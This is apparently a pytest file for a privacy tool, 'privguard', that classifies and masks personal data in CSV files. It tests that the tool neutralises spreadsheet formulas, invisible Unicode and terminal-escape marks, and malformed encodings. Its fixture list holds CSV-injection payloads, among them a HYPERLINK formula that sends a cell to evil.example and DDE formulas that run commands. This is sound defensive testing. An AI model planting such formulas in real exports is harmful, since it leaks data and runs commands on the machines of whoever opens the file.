"""Cells and labels that a spreadsheet would run, or that a reader cannot see for what they are."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.command_line import Run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+2+cmd",
    "-2+3+cmd|x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@x",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+x",
    "\uff20x",
    "\ufe661+1",
]
STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\t\r\n")
SECRET = "zq.canary@corp.example"


def written(rows: list[list[str]], path: str) -> Path:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    Path(path).write_text(out.getvalue(), encoding="utf-8", newline="")
    return Path(path)


def would_run(text: str) -> bool:
    """Whether the first thing that is seen of a cell makes it a formula; a plain number is none."""
    seen = "".join(c for c in text if (c.isprintable() and not c.isspace()) or c in "\t\r\n").strip("\u00a0 ")
    try:
        float(seen)
    except ValueError:
        return seen.startswith(STARTS)
    return False


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_check_knows_a_formula() -> None:
    assert all(map(would_run, FORMULAS))
    assert not any(map(would_run, ["'=1", "-5", "+49", "a=1", "", "x"]))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_header_and_cells_are_read_as_text_and_written_harmless(privguard: Run, formula: str) -> None:
    path = written([["email", formula, "n"], *([f"p{n}@corp.example", formula, str(-n)] for n in range(30))], "f.csv")

    for form in ("table", "json", "csv"):
        code, out, err = privguard("classify", path, "--format", form)
        assert (code, err) == (0, "") and "@corp.example" not in out
        if form == "csv":
            assert not any(map(would_run, cells(out)))
        if form == "json":
            assert [column["column"] for column in json.loads(out)["columns"]][1].strip("\ufeff") == formula.strip(
                "\ufeff"
            )
    assert privguard("mask", path, "-o", "m.csv")[0] == 0

    masked = cells(Path("m.csv").read_bytes().decode())
    assert len(masked) == 93 and not any(map(would_run, masked))
    assert masked[1] == masked[4] == f"'{formula}" and "-7" in masked


def test_a_formula_with_a_value_beside_it_is_masked_all_the_same(privguard: Run) -> None:
    rows = [[f"=x{n}.canary@corp.example"] for n in range(30)]
    written([["email"], *rows], "f.csv")

    assert privguard("mask", "f.csv", "-o", "m.csv")[0] == 0

    text = Path("m.csv").read_text()
    assert "canary" not in text and not any(map(would_run, cells(text)))


@pytest.mark.parametrize(
    "mark", ["\u202e", "\u2066", "\u200b", "\u200f", "\u00ad", "\ufeff", "\x1b[31m", "\x07", "\x9b31m", "\u2028"]
)
@pytest.mark.parametrize("place", ["before", "within", "behind"])
def test_marks_that_nobody_sees_hide_no_label_and_reach_no_terminal(privguard: Run, mark: str, place: str) -> None:
    label = {"before": f"{mark}email", "within": f"em{mark}ail", "behind": f"email{mark}"}[place]
    path = written([["n", label], *([str(n), f"zq{n}.canary@corp.example"] for n in range(30))], "f.csv")

    code, out, err = privguard("classify", path)
    assert (code, err) == (0, "") and mark not in out and "EMAIL_ADDRESS" in out
    code, out, err = privguard("mask", path, "-o", "m.csv")

    assert code == 0 and mark not in err and "canary" not in Path("m.csv").read_text(encoding="utf-8")


ODD: dict[str, tuple[bytes, bool]] = {
    "a cell of 1 MB": (b"email,note\n" + SECRET.encode() + b"," + b"x" * 2**20 + b"\n", True),
    "a value after 1 MB": (b"note,n\n" + b"x " * 2**19 + SECRET.encode() + b",1\n", True),
    "a NUL in a cell": (f"email\nz\0{SECRET}\n".encode(), False),
    "a NUL in a label": (f"em\0ail\n{SECRET}\n".encode(), False),
    "a BOM": (b"\xef\xbb\xbfemail\n" + SECRET.encode() + b"\n", True),
    "two BOMs": (b"\xef\xbb\xbf\xef\xbb\xbfemail\n" + SECRET.encode() + b"\n", True),
    "a BOM in the middle": (b"email\n\xef\xbb\xbf" + SECRET.encode() + b"\n", True),
    "UTF-16 without a mark": (f"email\n{SECRET}\n".encode("utf-16-le"), False),
    "UTF-32": (f"email\n{SECRET}\n".encode("utf-32"), False),
    "two encodings": (f"email,name\n{SECRET},José\n".encode() + f"{SECRET},José\n".encode("latin-1"), False),
    "overlong UTF-8": (f"email\n{SECRET}\n".encode() + b"\xc0\xaf\n", False),
    "a lone surrogate": (f"email\n{SECRET}\n".encode() + b"\xed\xa0\x80\n", False),
    "labels twice": (f"email,email,EMAIL\n{SECRET},{SECRET},{SECRET}\n".encode(), True),
    "labels like numbered ones": (f"email,email.1,email\n{SECRET},{SECRET},{SECRET}\n".encode(), True),
    "no labels": (f",,\n{SECRET},{SECRET},1\n".encode(), True),
    "1,001 columns": (
        ",".join(["email"] * 1_001).encode() + b"\n" + ",".join([SECRET] * 1_001).encode() + b"\n",
        True,
    ),
    "a template": (f"{{{{ 7*191 }}}},{{% for %}}\n{SECRET},{{{{ 7*191 }}}}\n".encode(), True),
}


@pytest.mark.parametrize("name", ODD)
def test_odd_bytes_are_a_table_or_one_sentence_and_never_a_value(privguard: Run, name: str) -> None:
    content, is_table = ODD[name]
    Path("odd.csv").write_bytes(content)
    rows = content.count(b"\n") - 1

    results = [privguard("classify", "odd.csv", "--format", form) for form in ("table", "json", "csv")]
    results.append(privguard("mask", "odd.csv", "-o", "m.csv"))

    for code, out, err in results:
        assert code == (0 if is_table else 3)
        assert (
            SECRET not in out + err
            and "canary" not in out + err
            and "Traceback" not in out + err
            and ("1337" not in out or "1,001" in name)
        )
        if not is_table:
            assert out == "" and err.startswith("privguard: ") and err.count("\n") == 1
    assert Path("m.csv").exists() == is_table
    if is_table:
        masked = Path("m.csv").read_bytes().removeprefix(b"\xef\xbb\xbf")
        assert b"canary" not in masked and masked.count(b"\n") - 1 == rows
        assert masked.split(b"\n")[0].count(b",") == content.split(b"\n")[0].count(b",")
